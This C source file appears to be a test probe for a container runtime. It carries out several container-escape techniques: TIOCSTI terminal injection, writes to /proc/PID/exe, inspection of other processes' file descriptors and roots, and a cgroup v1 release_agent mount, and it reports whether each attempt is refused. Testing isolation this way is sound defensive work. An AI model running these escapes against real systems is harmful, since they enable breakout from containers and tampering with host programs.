/*
 * What an attacker inside a container does, as a program of its own: linked statically, put into the container by the tests.
 *
 *     probe tiocsti         push a character into the terminal on standard input
 *     probe write-exe N     N times: open every /proc/PID/exe for writing, and write
 *     probe look N          N times: print what every /proc/PID/fd/M, root and cwd of others leads to
 *     probe release-agent   in a new user, mount and cgroup namespace: a version 1 hierarchy, and its release_agent
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <unistd.h>

static int tiocsti(void)
{
    if (ioctl(0, TIOCSTI, "x") == 0)
        return puts("pushed"), 0;
    printf("refused: %s\n", strerror(errno));
    return 0;
}

static void each_process(void (*visit)(const char *pid))
{
    DIR *d = opendir("/proc");
    const struct dirent *e;
    while (d && (e = readdir(d)))
        if (e->d_name[0] >= '1' && e->d_name[0] <= '9')
            visit(e->d_name);
    if (d)
        closedir(d);
}

static void write_exe(const char *pid)
{
    char path[300];
    snprintf(path, sizeof(path), "/proc/%s/exe", pid);
    int held = open(path, O_RDONLY | O_CLOEXEC);
    if (held < 0)
        return;
    /* Through the descriptor as well: the file may be busy now and free a moment later. */
    snprintf(path, sizeof(path), "/proc/self/fd/%d", held);
    for (int i = 0; i < 20; i++) {
        int fd = open(path, O_WRONLY | O_CLOEXEC);
        if (fd >= 0) {
            ssize_t n = write(fd, "pwned", 5);
            printf("wrote %zd bytes to %s of %s\n", n, path, pid);
            close(fd);
        }
    }
    close(held);
}

static void look_link(const char *path)
{
    char target[4096];
    ssize_t n = readlink(path, target, sizeof(target) - 1);
    if (n > 0) {
        target[n] = 0;
        printf("%s -> %s\n", path, target);
    }
}

static void look(const char *pid)
{
    char path[600];
    if (atoi(pid) == getpid())
        return;
    snprintf(path, sizeof(path), "/proc/%s/cwd", pid);
    look_link(path);
    snprintf(path, sizeof(path), "/proc/%s/root", pid);
    look_link(path);
    snprintf(path, sizeof(path), "/proc/%s/fd", pid);
    DIR *d = opendir(path);
    const struct dirent *e;
    while (d && (e = readdir(d))) {
        snprintf(path, sizeof(path), "/proc/%s/fd/%s", pid, e->d_name);
        look_link(path);
    }
    if (d)
        closedir(d);
}

static int release_agent(void)
{
    if (unshare(CLONE_NEWUSER) < 0)
        return printf("no user namespace: %s\n", strerror(errno)), 0;
    if (unshare(CLONE_NEWNS | CLONE_NEWCGROUP) < 0)
        return printf("no mount namespace: %s\n", strerror(errno)), 0;
    mkdir("/tmp/c", 0755);
    if (mount("none", "/tmp/c", "cgroup", 0, "pids") < 0 && mount("none", "/tmp/c", "cgroup", 0, "memory") < 0)
        return printf("refused: mount: %s\n", strerror(errno)), 0;
    int fd = open("/tmp/c/release_agent", O_WRONLY);
    if (fd < 0 || write(fd, "/pwned", 6) < 0)
        return printf("refused: %s\n", strerror(errno)), 0;
    return puts("wrote"), 0;
}

int main(int argc, char **argv)
{
    const char *what = argc > 1 ? argv[1] : "";
    int times = argc > 2 ? atoi(argv[2]) : 1;
    setvbuf(stdout, NULL, _IOLBF, 0);
    if (!strcmp(what, "tiocsti"))
        return tiocsti();
    if (!strcmp(what, "release-agent"))
        return release_agent();
    printf("begin\n");
    for (int i = 0; i < times; i++)
        each_process(!strcmp(what, "look") ? look : write_exe);
    printf("end\n");
    return 0;
}
